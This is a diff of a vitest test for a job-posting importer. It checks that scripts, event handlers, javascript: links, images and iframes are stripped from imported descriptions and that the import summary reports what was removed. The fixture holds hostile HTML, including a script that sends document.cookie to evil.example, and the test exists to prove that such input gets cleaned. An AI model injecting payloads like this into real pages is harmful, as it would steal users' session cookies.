@@ -6,19 +6,28 @@
  */
 import { describe, expect, it } from 'vitest';
 import { leverPosting, recruiteeOffer } from '../support/ats-payloads.ts';
+import { formatMarkdown } from '../../src/import/summary.ts';
 import { actions, entries, h, job, jobText, run, useImportHarness } from '../support/import-harness.ts';
 
 useImportHarness();
 
 describe('hostile descriptions and the draft rule', () => {
-  it('strips scripts, handlers, javascript: links and images, and keeps the text', async () => {
+  it('strips scripts, handlers, javascript: links and images, keeps the text, and says so in the summary', async () => {
     const hostile =
       '<p onmouseover="steal()">We mean well.<script>fetch("https://evil.example/?c="+document.cookie)</script></p>' +
       '<p><a href="javascript:alert(document.domain)">Apply here</a> or <a href=" JAVASCRIPT:alert(1)">there</a>.</p>' +
       '<img src="https://evil.example/pixel.gif"><iframe src="https://evil.example"></iframe>' +
       `<p>${'Our crews fit heat pumps in old houses, carefully and quickly. '.repeat(6)}</p>`;
     h.server.reply('/api/offers/', { json: { offers: [recruiteeOffer(78, { description: hostile, requirements: '' })] } });
-    await run(['brookvane']);
+    const report = await run(['brookvane']);
+    expect(entries(report, 'brookvane')).toEqual([
+      expect.objectContaining({
+        action: 'added',
+        reason:
+          'removed from its description: 1 script, 1 embedded frame or object, 1 event handler, 2 javascript: links, 1 image or media element',
+      }),
+    ]);
+    expect(formatMarkdown(report)).toContain('heat-pump-installer-brookvane.md`: removed from its description: 1 script, ');
     const text = jobText('heat-pump-installer-brookvane');
     const body = text.slice(text.indexOf('\n---\n') + 5);
     expect(body).toContain('We mean well.');
